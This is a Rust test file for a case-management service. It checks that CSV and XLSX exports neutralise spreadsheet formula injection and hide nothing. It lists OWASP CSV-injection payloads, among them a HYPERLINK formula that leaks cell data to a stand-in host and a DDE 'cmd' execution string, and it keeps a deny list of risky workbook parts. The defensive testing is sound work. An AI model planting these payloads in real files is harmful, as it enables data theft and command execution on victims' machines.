//! Every file that goes out as a spreadsheet, after every free text was filled with what a spreadsheet program would obey (`safety.md` X2):
//! nothing in it is a formula, nothing is hidden, and nobody made it.

use crate::given;

use std::{
    collections::{BTreeMap, BTreeSet},
    io::{Cursor, Read as _},
};

use axum::{
    body::Body,
    http::{Request, StatusCode, header},
};
use given::{
    Person, Service, a_service_at, root,
    whole::{Answer, answer},
};
use holdfast::{access::Role, arrivals};

use super::{
    canaries::{a_full_case, plant},
    mutated::links,
};

const NOW: &str = "2026-03-02T09:00:00Z";

/// How what a program would obey begins (OWASP, "CSV Injection").
const OBEYED: [&str; 8] = [
    "=HYPERLINK(\"http://elsewhere.example/?\"&A1,\"Open\")",
    "+1+1",
    "-1+cmd|' /C calc'!A0",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\u{ff1d}1+1",
];

fn begins_a_formula(text: &str) -> bool {
    text.starts_with(['=', '+', '-', '@', '\t', '\r', '\n', '\0', '\u{ff1d}', '\u{ff0b}', '\u{ff0d}', '\u{ff20}'])
}

/// The fields of comma-separated text as RFC 4180 has them.
fn fields(text: &str) -> Vec<String> {
    let (mut all, mut field, mut quoted) = (vec![], String::new(), false);
    let mut letters = text.trim_start_matches('\u{feff}').chars().peekable();
    while let Some(letter) = letters.next() {
        match letter {
            '"' if quoted && letters.peek() == Some(&'"') => field.extend(letters.next()),
            '"' => quoted = !quoted,
            ',' | '\n' if !quoted => all.push(std::mem::take(&mut field)),
            '\r' if !quoted && letters.peek() == Some(&'\n') => {}
            letter => field.push(letter),
        }
    }
    all.push(field);
    all
}

#[track_caller]
fn assert_obeys_nothing(path: &str, csv: &str) {
    for field in fields(csv) {
        assert!(!begins_a_formula(&field) || field.parse::<f64>().is_ok(), "{path}: {field:?}");
    }
}

/// A workbook holds the sheets that it shows, text and numbers, and nothing about whoever made it.
#[track_caller]
fn assert_nothing_hidden(path: &str, bytes: &[u8]) {
    let mut package = zip::ZipArchive::new(Cursor::new(bytes)).expect("a workbook");
    let (mut all, mut sheets) = (String::new(), 0);
    for at in 0..package.len() {
        let mut part = package.by_index(at).unwrap();
        let name = part.name().unwrap().into_owned();
        for kind in [
            "externalLinks",
            "comments",
            "drawing",
            "media",
            "pivot",
            "vba",
            "embeddings",
            "customXml",
            "printerSettings",
            "persons",
            "calcChain",
        ] {
            assert!(!name.to_lowercase().contains(&kind.to_lowercase()), "{path}: {name}");
        }
        sheets += usize::from(name.starts_with("xl/worksheets/sheet"));
        part.read_to_string(&mut all).expect("text");
    }
    for absent in ["<f>", "<f ", "hidden", "veryHidden", "definedName", "hyperlink ", "<hyperlinks", "legacyDrawing", "dataConsolidate"] {
        assert!(!all.contains(absent), "{path}: {absent}");
    }
    assert_eq!(all.matches("<sheet name=").count(), sheets, "{path}: each sheet stands in the list of those that are shown");
    assert!(all.contains("<dc:creator></dc:creator>") && all.contains("<cp:lastModifiedBy></cp:lastModifiedBy>"), "{path}");
}

/// Every file that somebody comes to by links; gives their addresses by kind.
async fn inspected(service: &Service, who: &Person, from: &[String]) -> BTreeMap<&'static str, BTreeSet<String>> {
    let mut to_open: Vec<String> = from.to_vec();
    let (mut been, mut of_kind): (BTreeSet<String>, BTreeMap<String, usize>) = (BTreeSet::new(), BTreeMap::new());
    let mut seen: BTreeMap<&'static str, BTreeSet<String>> = BTreeMap::new();
    while let Some(path) = to_open.pop() {
        let place = path.split('?').next().unwrap_or_default();
        // Of the quarters each file, of the rest a few of each kind.
        let kind: String = place.split('/').map(|part| if part.bytes().any(|b| b.is_ascii_digit()) { "#" } else { part }).collect();
        let count = of_kind.entry(kind).or_default();
        if !been.insert(path.clone()) || *count >= 6 || path.starts_with("/assets") {
            continue;
        }
        *count += 1;
        let got: Answer =
            answer(&service.router, Request::get(&path).header(header::COOKIE, &who.cookie).body(Body::empty()).unwrap()).await;
        let (kind, said) = (got.header("content-type").to_owned(), got.header("content-disposition").to_owned());
        match kind.split(';').next().unwrap_or_default() {
            "text/csv" => {
                assert!(said.starts_with("attachment; filename=\"") && said.ends_with(".csv\""), "{path}: {said}");
                assert_obeys_nothing(&path, &got.text());
                seen.entry("csv").or_default().insert(path);
            }
            "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet" => {
                assert!(said.starts_with("attachment; filename=\""), "{path}: {said}");
                assert_nothing_hidden(&path, &got.body);
                seen.entry("xlsx").or_default().insert(path);
            }
            "text/html" => to_open.extend(links(&got.text())),
            _ => {}
        }
    }
    seen
}

/// A workbook of which a row and a cell cannot be taken in as they are written, and are told in files to be mended by.
async fn a_workbook_that_is_refused(service: &Service, manager: &Person) -> String {
    arrivals::kept::read_with(env!("CARGO_BIN_EXE_holdfast").into());
    // Mappings are looked for above the program, which a test may keep elsewhere, or else where it runs.
    std::env::set_current_dir(root()).expect("the project");
    let book = b"Ref No,Date rec'd,Referred by,Client name,DOB,Gender,Ethnicity,Outcome,Date responded\n\
        R1,1/4/2025,Police,Ada Brook,@SUM(1),Female,n/k,accepted,1/4/2025\n=R2,=1+1,-Self,+Bea Cole,8/7/1985,Female,PNS,,\n";
    let fields = [("form_key", "obeyed"), ("mapping", "legacy-caseload.toml")];
    let sent = service.sends_file(manager, "/imports", &fields, ("workbook", "Referrals.csv", book.as_slice())).await;
    assert_eq!(sent.status, StatusCode::SEE_OTHER, "{}", given::text(&sent.html));
    sent.to
}

#[tokio::test(flavor = "multi_thread")]
async fn whatever_somebody_types_is_no_formula_in_any_file_that_goes_out() {
    let service = a_service_at(NOW).await;
    let (manager, worker) = (service.signed_in_as(Role::ServiceManager).await, service.signed_in_as(Role::SupportWorker).await);
    a_full_case(&service, &worker, &manager).await;
    let import = a_workbook_that_is_refused(&service, &manager).await;
    let report = "/reports/cornwall-outputs/2026-Q1";
    let mut notes = 0;
    for obeyed in OBEYED {
        let version = [("version", notes.to_string()), ("words", format!("{obeyed} and a word"))];
        let fields: Vec<(&str, &str)> = version.iter().map(|(name, value)| (*name, value.as_str())).collect();
        let noted = service.sends(&manager, &format!("{report}/notes/people_supported"), &fields).await;
        notes += i32::from(noted.status == StatusCode::SEE_OTHER);
        let read = inspected(&service, &manager, &["outputs.csv", "outputs.xlsx"].map(|file| format!("{report}/{file}"))).await;
        assert_eq!(read.len(), 2, "{read:?}");
    }
    assert_eq!(notes, 8, "every note was taken");
    let mut seen: BTreeMap<&str, BTreeSet<String>> = BTreeMap::new();
    let council = service.signed_in_as(Role::ContractManager).await;
    for first in [0, 3] {
        plant(&service, |n| OBEYED[(n + first) % OBEYED.len()].to_owned()).await;
        for who in [&manager, &council] {
            let of_the_import = ["refused.csv", "unread.csv"].map(|file| format!("{import}/{file}"));
            let from = [vec!["/".to_owned(), report.to_owned(), import.clone()], of_the_import.to_vec()].concat();
            for (kind, paths) in inspected(&service, who, &from).await {
                seen.entry(kind).or_default().extend(paths);
            }
        }
    }
    for (kind, least) in [("csv", 2), ("xlsx", 1)] {
        assert!(seen.get(kind).is_some_and(|paths| paths.len() >= least), "{kind}: {seen:?}");
    }
    assert!(seen["csv"].iter().any(|path| path.starts_with("/imports/")), "no file of an import was seen: {seen:?}");
    let unread = service.opens(&manager, &format!("{import}/unread.csv")).await;
    unread.says(",'@SUM(1)");
}

#[test]
fn a_formula_that_goes_out_would_be_seen() {
    assert_eq!(fields("\u{feff}a,\"b \"\"c\"\", d\"\r\n=1,'=2\r\n"), ["a", "b \"c\", d", "=1", "'=2", ""]);
    assert!(std::panic::catch_unwind(|| assert_obeys_nothing("", "a,=1")).is_err());
    assert!(std::panic::catch_unwind(|| assert_obeys_nothing("", "a,-1.5,\"'=1\"")).is_ok());
}
